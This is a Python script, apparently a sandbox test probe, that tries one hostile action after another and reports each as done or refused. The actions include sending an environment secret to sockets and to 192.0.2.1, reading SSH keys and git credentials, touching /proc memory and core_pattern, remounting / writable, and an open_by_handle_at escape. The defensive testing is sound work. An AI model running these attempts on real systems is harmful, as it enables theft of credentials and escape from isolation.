"""What a hostile program tries: prints a line for each attempt.

``python attacks.py FOLDER``: the folder has what the test has put there, a Unix socket, a FIFO, the
ID of a process, a port.
"""

import ctypes
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any


def connect(family: int, address: Any) -> None:
    """Send a secret of the environment."""
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(5)
        client.connect(address)
        client.sendall(os.environ.get("SECRET", "nothing").encode())


def write_pipe(pipe: Path) -> None:
    """The same, through a FIFO."""
    place = os.open(pipe, os.O_WRONLY | os.O_NONBLOCK)
    os.write(place, os.environ.get("SECRET", "nothing").encode())


def read_secret() -> None:
    """Look for the secret."""
    if "SECRET" not in os.environ:
        raise PermissionError(1, "not in the environment")


def read(place: Path) -> None:
    """Read a file of the user's."""
    if not place.read_text():
        raise PermissionError(1, "empty")


class Handle(ctypes.Structure):
    """``struct file_handle``."""

    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("content", ctypes.c_ubyte * 128))


def open_handle(place: Path) -> None:
    """Open a file by its number in the file system, whatever covers its path."""
    handle = Handle.from_buffer_copy(bytes.fromhex(place.read_text()))
    library, folder = ctypes.CDLL(None, use_errno=True), os.open("/usr", os.O_RDONLY)
    if library.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY) < 0:
        raise PermissionError(1, os.strerror(ctypes.get_errno()))


def mount() -> None:
    """Make all mounts writable."""
    if ctypes.CDLL(None, use_errno=True).mount(None, b"/", None, 4096 | 32, None) < 0:
        raise PermissionError(1, "mount")


def attacks(theirs: Path) -> dict[str, Callable[[], object]]:
    """By name, each attempt."""
    process = int((theirs / "process").read_text())
    return {
        "write": partial((theirs / "new").write_text, "written"),
        "home": partial(Path("~/theirs").expanduser().write_text, "written"),
        "socket": partial(connect, socket.AF_UNIX, str(theirs / "socket")),
        "abstract": partial(connect, socket.AF_UNIX, "\0" + (theirs / "abstract").read_text()),
        "remote": partial(connect, socket.AF_INET, ("192.0.2.1", 9)),
        "port": partial(connect, socket.AF_INET, ("127.0.0.1", int((theirs / "port").read_text()))),
        "pipe": partial(write_pipe, theirs / "pipe"),
        "memory": Path("/proc", str(process), "mem").open,
        "signal": partial(os.kill, process, signal.SIGTERM),
        "mount": mount,
        "kernel": partial(Path("/proc/sys/kernel/core_pattern").open, "w"),
        "devices": partial(os.listdir, "/dev/pts"),
        "environment": read_secret,
        "key": partial(read, Path("~/.ssh/id_rsa").expanduser()),
        "token": partial(read, Path.cwd() / ".git-credentials"),
        "neighbour": partial(read, theirs.parent / "neighbour.txt"),
        "handle": partial(open_handle, theirs / "handle"),
    }


def main() -> None:
    """Try each, then use what a program may use, and leave a process behind."""
    for name, attempt in attacks(Path(sys.argv[1])).items():
        try:
            attempt()
            result = "done"
        except OSError as error:
            result = f"refused: {error.strerror}"
        sys.stdout.write(f"{name} {result}\n")
        sys.stdout.flush()
    waits = [sys.executable, "-c", "import time; time.sleep(600)", "left behind", sys.argv[1]]
    nothing = subprocess.DEVNULL
    subprocess.Popen(waits, start_new_session=True, stdout=nothing, stderr=nothing)
    (Path(os.environ.get("TMPDIR", sys.argv[1])) / "mine").write_text("written")
    with socket.create_server(("127.0.0.1", 0)) as server:
        socket.create_connection(server.getsockname(), timeout=5).close()
    sys.stdout.write("own folder and loopback work\n")


if __name__ == "__main__":
    main()
